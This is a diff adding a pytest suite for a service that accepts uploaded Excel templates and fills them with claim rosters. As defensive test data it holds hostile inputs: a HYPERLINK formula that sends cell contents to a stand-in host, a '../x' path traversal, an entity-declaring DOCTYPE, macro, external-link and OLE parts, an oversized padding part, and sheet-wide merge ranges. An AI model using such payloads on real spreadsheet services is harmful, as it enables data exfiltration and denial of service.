@@ -1,0 +1,170 @@
+"""A county's own workbook in the place of a form: filled, and every kind of bad one refused with a sentence."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from io import BytesIO
+from pathlib import Path
+from typing import Any
+from zipfile import ZIP_DEFLATED, ZipFile
+
+import openpyxl
+import pytest
+from openpyxl.styles import Font
+
+from domain.errors import InputUnusable, NotFound
+from services.forms import CATALOGUE, templates
+from services.forms.form import Form
+
+ROSTER = Form(
+    "汇总名册",
+    {"填报单位": "解放村", "填报时间": "2023年6月5日"},
+    columns=CATALOGUE["claim_roster"].columns,
+    rows=[
+        (n, name, "**0118", "解放村", "交通补助", 2023, "辽宁省", "", 500.0, "草稿", "")
+        for n, name in enumerate(("=1+1", "李四", "王五"), 1)
+    ],
+    total=("", "合计", "", "", "", "", "", "", 1500.0, "", ""),
+)
+
+
+def book(**cells: Any) -> openpyxl.Workbook:
+    made = openpyxl.Workbook()
+    for place, value in cells.items():
+        sheet_of(made)[place] = value
+    return made
+
+
+def sheet_of(made: openpyxl.Workbook) -> Any:
+    return made.active
+
+
+def saved(tmp_path: Path, made: openpyxl.Workbook) -> Path:
+    made.save(tmp_path / "样表.xlsx")
+    return tmp_path / "样表.xlsx"
+
+
+def test_a_template_is_filled_and_keeps_its_look(tmp_path: Path) -> None:
+    made = book(
+        A1="{{标题}}", A2="单位：{{填报单位}}，{{ 填报时间 }}", A4="{{行.序号}}", B4="{{行.姓名或单位}}", C4="{{行.金额（元）}}", A5="合计"
+    )
+    sheet = sheet_of(made)
+    sheet["C5"] = "{{合计}}"
+    sheet["B4"].font = Font(bold=True)
+    sheet.merge_cells("A5:B5")
+    templates.keep(tmp_path, "claim_roster", saved(tmp_path, made))
+    own = templates.of(tmp_path, "claim_roster")
+    assert own is not None
+    assert templates.fill(ROSTER, "claim_roster", own, tmp_path / "out.xlsx") == 3
+    sheet = sheet_of(openpyxl.load_workbook(tmp_path / "out.xlsx"))
+    assert [sheet[f"A{n}"].value for n in (1, 2)] == ["汇总名册", "单位：解放村，2023年6月5日"]
+    assert [[cell.value for cell in row] for row in sheet["A4:C6"]] == [[1, "=1+1", 500], [2, "李四", 500], [3, "王五", 500]]
+    assert (sheet["B4"].data_type, sheet["B4"].quotePrefix, sheet["B6"].font.bold) == ("s", True, True)
+    assert (sheet["A7"].value, sheet["C7"].value) == ("合计", 1500) and "A7:B7" in map(str, sheet.merged_cells.ranges)
+    assert templates.drop(tmp_path, "claim_roster") and templates.of(tmp_path, "claim_roster") is None
+    assert not templates.drop(tmp_path, "claim_roster")
+
+
+@pytest.mark.parametrize("name", CATALOGUE)
+def test_a_blank_one_is_one_that_is_taken(tmp_path: Path, name: str) -> None:
+    templates.blank(name, tmp_path / "a.xlsx")
+    templates.keep(tmp_path, name, tmp_path / "a.xlsx")
+
+
+def test_an_empty_form_leaves_the_row_empty(tmp_path: Path) -> None:
+    file = saved(tmp_path, book(A1="{{行.序号}}", B1="{{合计}}元"))
+    templates.fill(Form("x", columns=ROSTER.columns), "claim_roster", file, tmp_path / "out.xlsx")
+    sheet = sheet_of(openpyxl.load_workbook(tmp_path / "out.xlsx"))
+    assert (sheet["A1"].value or "", sheet["B1"].value) == ("", "元")
+
+
+def test_unknown_fields_are_named(tmp_path: Path) -> None:
+    file = saved(tmp_path, book(B3="{{手机号}}", C3="{{行.单价}}"))
+    with pytest.raises(InputUnusable, match=r"\{\{手机号\}\}（B3）.*\{\{行.单价\}\}（C3）.*填报单位"):
+        templates.keep(tmp_path, "claim_roster", file)
+    assert templates.of(tmp_path, "claim_roster") is None
+    with pytest.raises(NotFound):
+        templates.keep(tmp_path, "../x", file)
+
+
+def _hidden() -> openpyxl.Workbook:
+    made = book(A1="{{标题}}")
+    made.create_sheet("底稿").sheet_state = "hidden"
+    return made
+
+
+@pytest.mark.parametrize(
+    ("make", "said"),
+    [
+        (lambda: book(A1='=HYPERLINK("http://x/?"&A2)'), "公式"),
+        (lambda: book(A1="=SUM(B1:B9)"), "公式"),
+        (_hidden, "隐藏"),
+        (lambda: book(A301="x"), "太大"),
+        (lambda: book(BZ1="x"), "太大"),
+    ],
+)
+def test_what_a_workbook_must_not_hold(tmp_path: Path, make: Callable[[], openpyxl.Workbook], said: str) -> None:
+    with pytest.raises(InputUnusable, match=said):
+        templates.keep(tmp_path, "claim_roster", saved(tmp_path, make()))
+
+
+def package(change: Callable[[dict[str, bytes]], None]) -> bytes:
+    """A harmless template, changed part by part."""
+    plain = BytesIO()
+    book(A1="{{标题}}").save(plain)
+    with ZipFile(plain) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    change(parts)
+    out = BytesIO()
+    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def merged(ref: bytes, tag: bytes = b"mergeCell") -> Callable[[dict[str, bytes]], None]:
+    block = b'<mergeCells><%s ref="%s"/></mergeCells><pageMargins' % (tag, ref)
+    return lambda parts: parts.update({SHEET: parts[SHEET].replace(b"<pageMargins", block)})
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda parts: parts.update({"xl/vbaProject.bin": b"x"}),
+        lambda parts: parts.update({"xl/externalLinks/externalLink1.xml": b"<a/>"}),
+        lambda parts: parts.update({"xl/embeddings/oleObject1.bin": b"x"}),
+        lambda parts: parts.update({"xl/connections.xml": b"<a/>"}),
+        lambda parts: parts.update({SHEET: b'<!DOCTYPE a [<!ENTITY b "b">]>' + parts[SHEET]}),
+        lambda parts: parts.update({SHEET: parts[SHEET].decode().encode("utf-16")}),
+        lambda parts: parts.update({SHEET: b"<worksheet"}),
+        lambda parts: parts.update({"xl/media/bomb.xml": b" " * 30_000_000}),
+        merged(b"A1:XFD1048576"),
+        merged(b"&#65;1:XFD1048576"),
+        merged(b"A1:XFD1048576", b"x:mergeCell"),
+    ],
+)
+def test_a_hostile_package_is_refused_before_it_is_opened(tmp_path: Path, change: Callable[[dict[str, bytes]], None]) -> None:
+    file = tmp_path / "样表.xlsx"
+    file.write_bytes(package(change))
+    with pytest.raises(InputUnusable):
+        templates.keep(tmp_path, "claim_roster", file)
+    assert templates.of(tmp_path, "claim_roster") is None
+
+
+def test_the_same_package_unchanged_is_taken(tmp_path: Path) -> None:
+    file = tmp_path / "样表.xlsx"
+    file.write_bytes(package(lambda parts: None))
+    templates.keep(tmp_path, "claim_roster", file)
+
+
+@pytest.mark.parametrize(
+    "data", [b"", b"name,sum\n", b"PK\x03\x04 nothing", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 100, b"PK" + b"x" * 2**21]
+)
+def test_what_is_no_workbook(tmp_path: Path, data: bytes) -> None:
+    file = tmp_path / "样表.xlsx"
+    file.write_bytes(data)
+    with pytest.raises(InputUnusable):
+        templates.keep(tmp_path, "claim_roster", file)
